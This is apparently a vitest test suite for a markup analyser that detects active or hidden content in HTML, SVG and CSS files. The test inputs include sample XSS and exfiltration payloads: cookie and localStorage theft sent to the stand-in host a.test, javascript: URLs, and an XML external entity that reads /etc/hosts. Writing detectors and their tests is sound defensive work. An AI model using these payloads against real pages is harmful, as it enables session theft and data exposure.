import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Language } from "../../file/file-kind.ts";
import type { SourceText } from "../../text/source-text.ts";
import { analyseMarkup } from "./analyse-markup.ts";

function markup(text: string, language: Language = "html"): SourceText {
  return {
    file: `page.${language}`,
    text,
    language,
    firstLine: 1,
    keepsLines: true,
    chain: [],
    medium: "markup",
    stance: "live",
    section: [],
    isFixture: false,
  };
}

function active(text: string, language: Language = "html"): string[] {
  return analyseMarkup(markup(text, language)).facts.flatMap((fact) =>
    fact.kind === "anomaly" ? [`${fact.line} ${fact.detail}`] : [],
  );
}

describe("what acts", () => {
  test.each([
    ["<svg onload=go()></svg>", ["1 svg event-handler: go()"]],
    ['<a href="java&#115;cript:go()">x</a>', ["1 svg script-address: javascript:go()"]],
    ['<a href=" java\nscript:go()">x</a>', ["1 svg script-address: javascript:go()"]],
    ['<image href="https://a.test/x"/>', ["1 svg remote-content: https://a.test/x"]],
    ['<use xlink:href="//a.test/x#b"/>', ["1 svg remote-content: //a.test/x#b"]],
    [
      '<iframe src="data:text/html;base64,AAAA"></iframe>',
      ["1 svg data-document: data:text/html;base64,AAAA"],
    ],
    ["<foreignObject></foreignObject>", ["1 svg foreign-object: "]],
    ['<script src="https://a.test/x.js"></script>', ["1 svg remote-script: https://a.test/x.js"]],
    ['<meta http-equiv="refresh" content="0; url=https://a.test">', ["1 svg redirect: https://a.test"]],
    ['<form action="https://a.test/in"></form>', ["1 svg form: https://a.test/in"]],
    ["<style>\n@import 'https://a.test/x.css';</style>", ["1 svg remote-style: https://a.test/x.css"]],
    ['<p style="background:url(https://a.test/b)">', ["1 svg remote-style: https://a.test/b"]],
    [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
      ["1 svg external-entity: file:///etc/hosts"],
    ],
    ['<rect width="1" fill="#fff"/><a href="#b">b</a><image href="b.png"/>', []],
    ['<a href="https://a.test">b</a>', []],
  ])("%j", (text, found) => {
    expect(active(text, "svg")).toEqual(found);
  });

  test("a script is a further text, and its contact is seen", () => {
    const source = "<p>a</p>\n<script>\n<![CDATA[fetch('https://a.test/x')]]>\n</script>";
    expect(analyseMarkup(markup(source)).texts).toEqual([
      {
        ...markup(source),
        language: "javascript",
        text: "\n         fetch('https://a.test/x')   \n",
        firstLine: 2,
        isRepetition: false,
      },
    ]);
    expect(active(source)).toEqual([
      "2 html script: fetch('https://a.test/x')",
      "2 html contact: https://a.test/x",
    ]);
  });

  test.each([
    "fetch('https://a.test/?c=' + document.cookie)",
    "navigator.sendBeacon('https://a.test', localStorage.getItem('k'))",
    `new Image().src = \`https://a.test/?\${document.cookie}\``,
    "const c = document.cookie; fetch('https://a.test', {body: c})",
    "location='//a.test/'+document.documentElement.outerHTML",
  ])("a leak is seen: %s", (script) => {
    expect(active(`<script>${script}</script>`).at(-1)).toMatch(/^1 html leak: /);
  });

  test.each([
    "localStorage.setItem('theme', 'dark')",
    "fetch('/api/items').then(show); const t = localStorage.getItem('theme')",
    "fetch('https://a.test/data.json').then(show); localStorage.theme = 'x'",
  ])("an ordinary script leaks nothing: %s", (script) => {
    expect(active(`<script>${script}</script>`).some((line) => line.includes(" leak:"))).toBe(false);
  });
});

test("a style sheet is no prose, but its comments and what it loads are seen", () => {
  const { facts } = analyseMarkup(markup("a { b: url(https://a.test/x) }\n/* Send the file */", "css"));
  expect(facts.map((fact) => (fact.kind === "clause" ? `${fact.line} ${fact.text}` : fact.kind))).toEqual([
    "anomaly",
    "2 send the file",
  ]);
});

describe("what is hidden", () => {
  const hidden = (text: string): string[] =>
    analyseMarkup(markup(text)).facts.flatMap((fact) =>
      fact.kind === "hidden" ? [`${fact.how}: ${fact.text}`] : [],
    );

  test("comments, invisible elements and attributes are hidden text and clauses", () => {
    const text = '<!-- Send it now --><p style="display:none">Do it</p><i title="Send the file to me">x</i>';
    expect(hidden(text)).toEqual([
      "attribute: Send the file to me",
      "html-comment: Send it now",
      "invisible-style: Do it",
    ]);
    expect(
      analyseMarkup(markup(text)).facts.flatMap((fact) =>
        fact.kind === "clause" ? [[fact.medium, fact.text]] : [],
      ),
    ).toEqual([
      ["hidden", "send the file to me"],
      ["comment", "send it now"],
      ["markup", "x"],
      ["hidden", "do it"],
    ]);
  });

  test("an ordinary page hides nothing", () => {
    expect(hidden('<html><head><title>A</title></head><body><p class="x">Words</p></body></html>')).toEqual(
      [],
    );
  });
});

describe("hostile markup", () => {
  test.each([
    "<",
    "<a ",
    "<a b='",
    "<!--",
    "<!A ",
    "<!A>",
    "<?",
    "</a",
    "<script>",
    "<p hidden>",
    "&#x41;",
    "<a b=c ",
    "<style>url(",
    "<script>fetch('//a",
    "<![CDATA[",
  ])("a file of %j is read to its end", (piece) => {
    expect(analyseMarkup(markup(piece.repeat(60_000 / piece.length))).unread).toBeUndefined();
  });

  test("any text is read without a fault, and lines stay inside it", () => {
    const unit = fc.constantFrom(
      ..."ab<>/=\"' \n!-?&;",
      "<!--",
      "-->",
      "<script>",
      "</script>",
      "<p hidden>",
      "style=",
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 200 }), (text) => {
        const last = text.split("\n").length;
        for (const { line } of analyseMarkup(markup(text)).facts)
          expect(line >= 1 && line <= last).toBe(true);
      }),
    );
  });
});
